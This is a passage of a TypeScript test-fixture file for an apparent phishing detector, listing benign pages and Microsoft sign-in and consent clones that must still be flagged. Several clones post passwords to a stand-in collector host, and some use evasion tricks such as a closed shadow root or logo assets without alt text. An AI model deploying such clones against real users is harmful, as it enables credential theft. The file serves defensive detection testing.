    `<header><img alt="TrainingCorp" src="${GIF}"><form method="post" action="/login"><input type="email" name="email"><input type="password" name="password"><button type="submit">Log in</button></form></header><main><h1>Microsoft Entra ID: sign-in and consent</h1><img alt="Microsoft Entra" src="https://learn.trainingcorp.example/img/entra.png"><p>Learn how the Permissions requested dialog works.</p>${LOREM}</main>`,
  ),
  aboutPage(
    "a reseller's product page for Microsoft 365 with a customer login",
    'https://www.cloudreseller.example/products/microsoft-365',
    'Microsoft 365 Business Premium | CloudReseller',
    `<header><img alt="CloudReseller" src="${GIF}"><form method="post" action="/customer/login"><input type="email" name="email"><input type="password" name="password"><button type="submit">Sign in</button></form></header><main><h1>Microsoft 365 Business Premium</h1><img alt="Microsoft" src="${GIF}" class="vendor"><p>Buy Microsoft 365 from us.</p>${LOREM}<button type="button">Add to cart</button></main>`,
  ),
  aboutPage(
    'a status page for Azure DevOps on a third-party monitor',
    'https://status.monitorly.example/azure-devops',
    'Azure DevOps Status | Monitorly',
    `<h1>Azure DevOps</h1><img alt="Azure DevOps" src="${GIF}"><p>All systems operational.</p><form action="/subscribe" method="post"><input type="email" name="email"><button type="submit">Subscribe to updates</button></form>`,
  ),
  {
    name: "Microsoft's own docs on the consent screen (a Microsoft host)",
    class: 'about-microsoft',
    azureDevOps: true,
    url: 'https://learn.microsoft.com/en-us/azure/devops/integrate/get-started/authentication/oauth',
    html: doc(
      'Authorize access with OAuth 2.0 - Azure DevOps | Microsoft Learn',
      `<header><img alt="Microsoft" src="${GIF}"></header><main><h1>Authorize access to REST APIs with OAuth 2.0</h1><p>The user sees "Permissions requested" and selects Accept.</p></main>${COOKIE_BANNER}`,
    ),
  },
];

// --- Search and code search ---

function results(title: string, query: string, items: string[]): string {
  return doc(
    title,
    `<form action="/search" role="search"><input type="text" name="q" value="${query}"><button type="submit">Search</button></form><div id="results">${items.map((item) => `<div class="result"><h3><a href="https://learn.microsoft.com/">${item}</a></h3><p>${item}: Sign in to your Microsoft account, accept the permissions requested.</p></div>`).join('')}</div>${COOKIE_BANNER}`,
  );
}

const AZURE_RESULTS = ['Authorize access to REST APIs with OAuth 2.0 - Azure DevOps', 'Sign in to your account - Microsoft Entra', 'Azure DevOps'];

const search: FixturePage[] = [
  {
    name: 'a web search for the Azure DevOps OAuth flow',
    url: 'https://www.google.com/search?q=azure+devops+oauth2+authorize+scope',
    html: results('azure devops oauth2 authorize scope - Google Search', 'azure devops oauth2 authorize scope', AZURE_RESULTS),
  },
  {
    name: 'Bing search for "Permissions requested"',
    url: 'https://www.bing.com/search?q=%22Permissions+requested%22+microsoft+accept',
    html: results('"Permissions requested" microsoft accept - Search', '"Permissions requested" microsoft accept', AZURE_RESULTS),
  },
  {
    name: 'DuckDuckGo search for the sign-in page title',
    url: 'https://duckduckgo.com/?q=sign+in+to+your+microsoft+account',
    html: results('sign in to your microsoft account at DuckDuckGo', 'sign in to your microsoft account', AZURE_RESULTS),
  },
  {
    name: 'GitHub code search for an Azure DevOps scope',
    url: 'https://github.com/search?q=vso.code_write+oauth2%2Fauthorize&type=code',
    html: doc(
      'Code search results · GitHub',
      `<header><img alt="GitHub" src="${GIF}"></header><h1>Code results</h1><div class="code-list"><pre><code>const url = "https://app.vssps.visualstudio.com/oauth2/authorize?response_type=Assertion&amp;scope=vso.code_write";</code></pre><pre><code>&lt;title&gt;Sign in to your account&lt;/title&gt;</code></pre></div>`,
    ),
  },
  {
    name: 'Sourcegraph search for the legacy response_type',
    url: 'https://sourcegraph.com/search?q=response_type%3DAssertion+app.vssps',
    html: doc(
      'response_type=Assertion app.vssps - Sourcegraph',
      `<h1>Search results</h1><pre><code>redirect to app.vssps.visualstudio.com/oauth2/authorize</code></pre>`,
    ),
  },
  {
    name: 'a site search on a Q&A site',
    url: 'https://stackoverflow.com/search?q=azure+devops+oauth+consent',
    html: results("Posts containing 'azure devops oauth consent' - Stack Overflow", 'azure devops oauth consent', AZURE_RESULTS),
  },
  {
    name: 'a web search for the Azure DevOps resource id',
    urlSide: true,
    url: `https://www.google.com/search?q=${ADO_RESOURCE}`,
    html: results(`${ADO_RESOURCE} - Google Search`, ADO_RESOURCE, AZURE_RESULTS),
  },
  {
    name: 'a code search for the Azure DevOps resource id',
    urlSide: true,
    url: `https://github.com/search?q=${ADO_RESOURCE}%2F.default&type=code`,
    html: doc('Code search results · GitHub', `<h1>Code results</h1><pre><code>scopes: ["${ADO_RESOURCE}/.default"]</code></pre>`),
  },
  {
    name: 'Bing search for the resource id with a scope',
    urlSide: true,
    url: `https://www.bing.com/search?q=${ADO_RESOURCE}%2Fuser_impersonation`,
    html: results(`${ADO_RESOURCE}/user_impersonation - Search`, `${ADO_RESOURCE}/user_impersonation`, AZURE_RESULTS),
  },
].map((page) => ({ ...page, class: 'search' as const }));

// --- OAuth callbacks with an error ---

function callbackPage(heading: string, detail: string): string {
  return doc(
    'Sign-in failed - Contoso Portal',
    `<header><img alt="Contoso" src="${GIF}"></header><main><h1>${heading}</h1><p>${detail}</p>${MICROSOFT_BUTTON}</main>`,
  );
}

const callbacks: FixturePage[] = [
  {
    name: "an app's callback after the user declined consent",
    url: `https://app.contoso.example/signin-oidc?${query({ error: 'access_denied', error_description: 'AADSTS65004: User declined to consent to access the app.', state: 'st' })}`,
    html: callbackPage('Sign-in was cancelled', 'AADSTS65004: User declined to consent to access the app.'),
  },
  {
    name: "an app's callback with a client error",
    url: `https://portal.fabrikam.example/auth/callback?${query({ error: 'invalid_client', error_description: 'AADSTS7000215: Invalid client secret provided.', error_uri: 'https://login.microsoftonline.com/error?code=7000215' })}`,
    html: callbackPage('We could not sign you in', 'AADSTS7000215: Invalid client secret provided.'),
  },
  {
    name: "an app's callback after a Google sign-in error",
    url: `https://app.contoso.example/google/callback?${query({ error: 'access_denied', state: 'st' })}`,
    html: callbackPage('Google sign-in was cancelled', 'Try again or sign in another way.'),
  },
  {
    name: "an app's callback quoting the Azure DevOps resource id in error_description",
    urlSide: true,
    url: `https://app.contoso.example/signin-oidc?${query({ error: 'invalid_resource', error_description: `AADSTS500011: The resource principal named ${ADO_RESOURCE} was not found in the tenant.`, state: 'st' })}`,
    html: callbackPage('We could not sign you in', `AADSTS500011: The resource principal named ${ADO_RESOURCE} was not found in the tenant.`),
  },
].map((page) => ({ ...page, class: 'callback' as const }));

export const FALSE_ALARM_PAGES: readonly FixturePage[] = [...handOffs, ...identityProviders, ...partnerApps, ...aboutMicrosoft, ...search, ...callbacks];

// --- Clones an attacker would try next: each must still be called Microsoft branding off Microsoft ---

const MS_LOGO_FILE = 'https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg';

/** A clone rendered inside a closed shadow root by the page's own script (the light DOM holds nothing). */
export const CLOSED_SHADOW_CLONE_BODY = `<div role="heading" aria-level="1">Sign in to your Microsoft account</div><img alt="Microsoft" src="${GIF}"><form method="post" action="https://collect.example/p"><input type="email" name="loginfmt"><input type="password" name="passwd"><button type="submit">Sign in</button></form>`;

export const CLONE_PAGES: readonly ClonePage[] = [
  {
    name: 'a sign-in clone with a "Sign in with Microsoft" decoy button',
    url: 'https://docs-share.example/view/q3-report',
    html: doc(
      'Sign in to your account',
      `<img alt="Microsoft" src="${GIF}"><h1>Sign in</h1><form method="post" action="/view/q3-report"><input type="email" name="login"><input type="password" name="passwd"><button type="submit">Sign in</button></form>${MICROSOFT_BUTTON}`,
    ),
  },
  {
    name: "a clone without the word Microsoft: Microsoft's logo file, assets and field ids",
    url: 'https://secure-mailbox.example/owa/auth',
    html: doc(
      'Sign in to your account',
      `<div id="lightbox"><img class="logo" alt="" src="${MS_LOGO_FILE}"><div role="heading" aria-level="1" id="loginHeader">Sign in</div><form name="f1" method="post" action="/owa/auth/next"><input type="email" name="loginfmt" id="i0116"><input type="submit" id="idSIButton9" value="Next"></form></div>`,
      '<link rel="stylesheet" href="https://aadcdn.msftauth.net/ests/2.1/content/cdnbundles/converged.v2.login.min.css">',
    ),
  },
  {
    name: 'a consent clone with the logo drawn as four squares and no alt text',
    url: 'https://app-consent.example/permissions',
    html: doc(
      'Permissions requested',
      `${FOUR_SQUARES}<div role="heading" aria-level="1">Permissions requested</div><p>Contoso Deploy Bot</p><p>This app would like to:</p><ul><li>Read and write your code</li></ul><form method="post" action="/permissions/accept"><input type="submit" value="Cancel"><input type="submit" value="Accept"></form>`,
    ),
  },
  {
    name: 'an Azure DevOps approval clone wrapped in <article> to look like content',
    url: 'https://devops-apps.example/authorize',
    html: doc(
      'Authorize application - Azure DevOps',
      `<article><header><img alt="Azure DevOps" src="${GIF}"> Azure DevOps</header><h1>Contoso Deploy Bot is requesting permission to access your Azure DevOps account</h1><form method="post" action="/authorize/approve"><button type="submit">Accept</button><button type="submit">Deny</button></form></article>`,
    ),
  },
  {
    name: 'a clone whose logo sits in a home link, next to a "Continue with Microsoft" decoy',
    url: 'https://mail-verify.example/login',
    html: doc(
      'Microsoft | Sign in',
      `<a href="/"><img alt="Microsoft" src="${GIF}"></a><h1>Enter password</h1><form method="post" action="https://collect.example/p"><input type="password" name="passwd"><button type="submit">Sign in</button></form><button type="button">${FOUR_SQUARES} Continue with Microsoft</button>`,
    ),
  },
  {
    name: 'a "Pick an account" clone with the logo as a background image',
    url: 'https://account-check.example/select',
    html: doc(
      'Sign in to your account',
      `<div class="logo" style="background-image:url('/img/microsoft_logo.svg')" role="img" aria-label=""></div><div role="heading" aria-level="1">Pick an account</div><form method="post" action="/select"><input type="email" name="username"><button type="submit">Next</button></form>`,
    ),
  },
  {
    name: 'a sign-in clone rendered inside a closed shadow root',
    url: 'https://files-portal.example/shared/doc',
    html: doc(
      'Sign in to your account',
      `<div id="app"></div><script>document.getElementById('app').attachShadow({ mode: 'closed' }).innerHTML = ${JSON.stringify(CLOSED_SHADOW_CLONE_BODY)};</script>`,
    ),
  },
];

/** Serves the given pages by host, path and query (several pages share a path), or by host and path alone. */
export function corpusRoutes(pages: readonly { url: string; html: string }[]): Route {
  const exact = new Map<string, string>();
  const byPath = new Map<string, string>();
  for (const page of pages) {
    const url = new URL(page.url);
    if (exact.has(url.host + url.pathname + url.search)) throw new Error(`two fixture pages at ${page.url}`);
    exact.set(url.host + url.pathname + url.search, page.html);
    if (!byPath.has(url.host + url.pathname)) byPath.set(url.host + url.pathname, page.html);
  }
  return (request) => {
    const url = new URL(request.url);
    const html = exact.get(request.host + url.pathname + url.search) ?? byPath.get(request.host + url.pathname);
    return html === undefined ? undefined : { headers: { 'content-type': 'text/html; charset=utf-8' }, body: html };
  };
}
